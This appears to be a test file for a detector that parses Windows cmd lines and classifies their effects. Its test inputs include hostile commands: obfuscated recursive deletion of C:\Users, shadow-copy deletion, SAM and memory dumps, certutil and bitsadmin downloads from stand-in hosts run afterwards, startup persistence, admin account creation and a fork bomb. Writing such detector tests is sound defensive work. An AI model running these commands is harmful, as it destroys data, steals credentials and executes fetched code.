import { expect, test } from 'vitest'
import { createFollow } from '../shell/read-shell.ts'
import { splitWords } from './cmd/split-words.ts'
import { readCmd } from './read-windows.ts'
import { readWindowsArguments } from './windows-arguments.ts'

const read = (text: string) =>
  readCmd(
    text,
    createFollow(() => ''),
  )
const effectsOf = (text: string) =>
  read(text).effects.map(({ act, target }) => `${act} ${target.class} ${target.name}`)

test.each([
  'rd /s /q C:\\Users',
  'rd/s/q C:\\Users',
  'RMDIR /Q /S "C:\\Users"',
  'r^d /s /q C:^\\Users',
  'set x=rd&&call %x% /s /q C:\\Users',
  'set "x=rd /s /q C:\\Users" & %x%',
  'cmd /c "rd /s /q C:\\Users"',
  'cmd.exe /q /c rd /s /q C:\\Users',
  'start "" /b cmd /c rd /s /q C:\\Users',
  'if exist C:\\Users (rd /s /q C:\\Users) else (echo no)',
  'if not "%a%"=="b" rd /s /q C:\\Users',
  'for %i in (C:\\Users) do rd /s /q %i',
  'for /f "tokens=*" %i in (\'echo C:\\Users\') do rd /s /q %i',
  'echo hi & rd /s /q C:\\Users',
  'echo hi && (echo there & rd /s /q C:\\Users)',
  'echo rd /s /q C:\\Users > a.bat & a.bat',
  'powershell -c "Remove-Item C:\\Users -Recurse"',
  '@echo off\r\nrem clean up\r\nrd ^\r\n  /s /q C:\\Users',
  '%ComSpec% /c rd /s /q C:\\Users',
  '%COMSPEC:~-7,3% /c rd /s /q C:\\Users',
  'set a=Xsers&rd /s /q C:\\%a:X=U%',
])('a folder is deleted, however it is spelt: %s', (text) => {
  expect(effectsOf(text).some((effect) => /^delete path\/root C:\\+Users/.test(effect))).toBe(true)
})

test.each([
  'echo rd /s /q C:\\Users',
  'rem rd /s /q C:\\Users',
  ':: rd /s /q C:\\Users',
  'echo "a & rd /s /q C:\\Users"',
])('what is only mentioned does not happen: %s', (text) => {
  expect(effectsOf(text).filter((effect) => effect.startsWith('delete'))).toEqual([])
})

test.each([
  ['vssadmin delete shadows /all /quiet', 'delete resource/backup'],
  ['reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d a.exe', 'write path/startup'],
  ['reg save HKLM\\SAM sam.hiv', 'read path/credential'],
  ['net localgroup administrators eve /add', 'grant account/admin'],
  ['schtasks /create /tn a /tr "cmd /c a.exe" /sc onlogon', 'write path/startup'],
  ['certutil -urlcache -f http://get.example/a.exe a.exe', 'fetch host/outside'],
  ['bitsadmin /transfer j http://203.0.113.9/a.exe C:\\a.exe & C:\\a.exe', 'execute code/network'],
  [
    'copy C:\\Windows\\System32\\certutil.exe c.exe & c.exe -urlcache -f http://get.example/a a',
    'fetch host/outside',
  ],
  ['rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump 640 a.dmp full', 'read path/memory'],
  ['wmic process call create "cmd /c vssadmin delete shadows /all"', 'delete resource/backup'],
  ['%0|%0', 'execute code/bomb'],
])('programs of Windows are understood: %s', (text, expected) => {
  expect(effectsOf(text).some((effect) => effect.startsWith(expected))).toBe(true)
})

test('a protection that is switched on again is no finding', () => {
  expect(
    effectsOf(
      'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 0 /f',
    ),
  ).toEqual([])
})

test('words are taken apart as Windows programs do', () => {
  expect(splitWords('a "b c" "C:\\d\\" e\\"f ""')).toEqual(['a', 'b c', 'C:\\d\\', 'e"f', ''])
})

test('options are found in every spelling', () => {
  const args = readWindowsArguments(['/F', '-Name:x', '//s', 'C:\\a', '/tn', 'job'], new Set(['/tn']))
  expect(args.has('/f') && args.has('/s')).toBe(true)
  expect([args.value('/name'), args.value('/tn'), args.operands]).toEqual(['x', 'job', ['C:\\a']])
})

test.each([
  '^',
  '"',
  '%a%',
  '%a',
  '(',
  ')',
  '&',
  '|',
  '> a ',
  '2>a ',
  '<#',
  'cmd /c ',
  'call ',
  'set a=b&',
  'for %a in (b) do ',
  'if exist a ',
  '!a!',
])('100 kB of one thing ends with a bounded number of commands: %j', (shape) => {
  const walk = read(shape.repeat(100_000 / shape.length))
  expect(walk.calls.length).toBeLessThanOrEqual(500)
  expect(walk.effects.length).toBeLessThan(2_000)
})
